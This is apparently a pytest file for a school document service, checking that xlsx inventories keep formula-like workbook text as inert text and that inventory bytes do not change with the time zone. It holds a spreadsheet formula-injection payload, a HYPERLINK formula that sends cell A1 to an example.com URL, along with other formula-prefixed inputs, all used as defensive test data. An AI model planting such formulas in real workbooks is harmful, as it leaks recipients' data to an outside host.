"""Point 13 of issue 11: text from a workbook never becomes a live formula in the xlsx files
the service writes (outbox inventory, packs, archive inventory)."""

from __future__ import annotations

import io
import os
import subprocess
import sys
import zipfile
from datetime import datetime
from pathlib import Path

from openpyxl import load_workbook

from service.archive.inventory import BagDocument, BagFile
from service.archive.inventory import inventory_xlsx as bag_inventory
from service.inbox import Inbox
from service.intake.demo import write_demo_workbook
from service.intake.normalise import header_key
from service.outbox import OutboxEntry, inventory_xlsx

HOSTILE = '=HYPERLINK("http://example.com/?leak="&A1,"МБОУ Идринская СОШ")'


def _cells(data: bytes) -> dict[str, tuple[object, str]]:
    sheet = load_workbook(io.BytesIO(data)).active
    return {c.coordinate: (c.value, c.data_type) for row in sheet.iter_rows() for c in row}


def test_outbox_inventory_keeps_formula_like_text_as_text():
    entries = [
        OutboxEntry("regulation", "Положение", HOSTILE, "a.docx", "0" * 64),
        OutboxEntry("regulation", "Положение", "+79001234567", "b.docx", "1" * 64),
        OutboxEntry("regulation", "Положение", "-итог", "c.docx", "2" * 64),
        OutboxEntry("regulation", "Положение", "@SUM(A1)", "d.docx", "3" * 64),
    ]
    cells = _cells(inventory_xlsx(entries, "=1+1"))
    assert cells["A1"] == ("=1+1", "s")
    assert [cells[f"C{r}"] for r in range(3, 7)] == [
        (HOSTILE, "s"),
        ("+79001234567", "s"),
        ("-итог", "s"),
        ("@SUM(A1)", "s"),
    ]
    sheet = load_workbook(io.BytesIO(inventory_xlsx(entries, "x"))).active
    assert sheet["C3"].quotePrefix is True
    assert sheet["B3"].quotePrefix is False  # ordinary text is left as it is
    assert sheet["A3"].value == 1 and sheet["A3"].data_type == "n"


def test_archive_inventory_keeps_formula_like_text_as_text():
    document = BagDocument(
        id=1,
        kind="regulation",
        title="Положение",
        subject=HOSTILE,
        version=1,
        number="=2+2",
        date="01.09.2023",
        pages=3,
        section12=None,
        folder="a",
        files=[BagFile("a.docx", "0" * 64, "docx")],
    )
    cells = _cells(bag_inventory([document], "Опись"))
    assert cells["B3"] == (f"Положение — {HOSTILE} (версия 1)", "s")
    assert cells["D3"] == ("=2+2", "s")


def test_a_workbook_value_stays_text_in_the_outbox_inventory(settings, tmp_path: Path):
    """End to end: the school's short name «=HYPERLINK(…)» comes back as text in Опись.xlsx,
    and LibreOffice shows it as written instead of evaluating it."""
    source = tmp_path / "demo.xlsx"
    write_demo_workbook(source)
    book = load_workbook(source)
    sheet = book["Организация"]
    key = header_key("Краткое наименование")
    cell = next(r[1] for r in sheet.iter_rows() if header_key(r[0].value) == key)
    cell.value = HOSTILE
    cell.data_type = "s"  # typed as text in Excel (a leading apostrophe)
    book.save(settings.inbox / "школа.xlsx")
    assert Inbox(settings).drain() == 1
    (folder,) = [p for p in settings.outbox.iterdir() if p.is_dir()]
    data = (folder / "Опись.xlsx").read_bytes()
    cells = _cells(data)
    assert cells["C3"] == (HOSTILE, "s")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    out = tmp_path / "csv"
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76",
            "--outdir",
            str(out),
            str(folder / "Опись.xlsx"),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    text = (out / "Опись.csv").read_text(encoding="utf-8")
    assert '"=HYPERLINK(""http://example.com/?leak=""&A1,""МБОУ Идринская СОШ"")"' in text


def test_every_function_of_the_xlsx_helpers_has_type_hints():
    """STYLE: type hints on public functions. The ZIP that dates a workbook's parts overrode
    ``ZipFile.writestr`` and ``write`` without any (left17)."""
    import ast

    import service.xlsx

    source = Path(service.xlsx.__file__).read_text(encoding="utf-8")
    bare = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.FunctionDef):
            arguments = [*node.args.posonlyargs, *node.args.args, *node.args.kwonlyargs]
            unhinted = [a.arg for a in arguments if a.annotation is None and a.arg != "self"]
            if unhinted or node.returns is None and node.name != "__init__":
                bare.append(f"{node.name}({', '.join(unhinted)})")
    assert bare == []


INVENTORY_AS_OF = """
import sys
from datetime import datetime
from service.archive.inventory import BagDocument, BagFile
from service.archive.inventory import inventory_xlsx as bag_inventory
from service.outbox import OutboxEntry, inventory_xlsx
moment = datetime(2026, 12, 3, 9, 15, 30)
entries = [OutboxEntry("regulation", "Положение", "МБОУ Идринская СОШ", "a.docx", "0" * 64)]
files = [BagFile("a.docx", "0" * 64, "docx")]
bagged = [BagDocument(1, "regulation", "Положение", "школа", 1, None, "", 3, None, "a", files)]
from pathlib import Path
Path(sys.argv[1], "pack.xlsx").write_bytes(inventory_xlsx(entries, "Опись", moment))
Path(sys.argv[1], "bag.xlsx").write_bytes(bag_inventory(bagged, "Опись", moment))
"""


def test_an_inventory_is_the_same_bytes_in_any_time_zone(tmp_path):
    """left17: a pack's Опись.xlsx, dated by its newest document, had other bytes on a server
    run with TZ=Asia/Vladivostok than with TZ=UTC — its properties, kept in UTC, were
    converted from the register's time by the server's zone — so a pack made again after the
    zone changed was not the file a broken download resumes on. The register's time is taken
    as Moscow time, stated. The archive's Опись.xlsx was dated by the clock in the server's
    zone; it is dated by the export's checkpoint likewise. One process per zone writes both
    inventories (a new interpreter costs 1.3 s of CPU)."""
    made: dict[str, dict[str, bytes]] = {"pack": {}, "bag": {}}
    for zone in ("UTC", "Asia/Vladivostok", "Europe/Moscow"):
        environment = {**os.environ, "TZ": zone}
        folder = tmp_path / zone.replace("/", "-")
        folder.mkdir()
        done = subprocess.run(
            [sys.executable, "-c", INVENTORY_AS_OF, str(folder)],
            env=environment,
            capture_output=True,
            cwd=Path(__file__).resolve().parents[1],
        )
        assert done.returncode == 0, done.stderr.decode()
        for inventory in made:
            made[inventory][zone] = (folder / f"{inventory}.xlsx").read_bytes()
    for inventory, by_zone in made.items():
        assert by_zone["UTC"] == by_zone["Asia/Vladivostok"] == by_zone["Europe/Moscow"], inventory
        book = load_workbook(io.BytesIO(by_zone["UTC"]))
        moment = datetime(2026, 12, 3, 6, 15, 30)
        assert book.properties.created == book.properties.modified == moment, inventory
        archive = zipfile.ZipFile(io.BytesIO(by_zone["UTC"]))
        assert {info.date_time for info in archive.infolist()} == {(2026, 12, 3, 9, 15, 30)}, (
            inventory
        )
